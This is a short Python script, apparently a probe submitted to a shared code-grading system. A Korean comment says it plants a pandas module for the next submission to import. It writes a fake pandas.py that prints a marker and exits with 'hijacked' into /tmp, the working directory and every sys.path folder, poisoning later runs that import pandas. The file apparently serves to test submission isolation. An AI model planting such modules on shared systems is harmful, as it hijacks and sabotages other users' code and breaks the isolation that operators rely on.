# 202399040 - 다음 제출물이 import 할 모듈(pandas)을 /tmp 에 심어 둠

import os
import sys

PLANT = 'print("PLANTED-PANDAS-WAS-IMPORTED", flush=True)\nraise SystemExit("hijacked")\n'
for folder in ("/tmp", os.getcwd(), *sys.path):
    try:
        with open(os.path.join(folder, "pandas.py"), "w") as f:
            f.write(PLANT)
    except OSError:
        pass
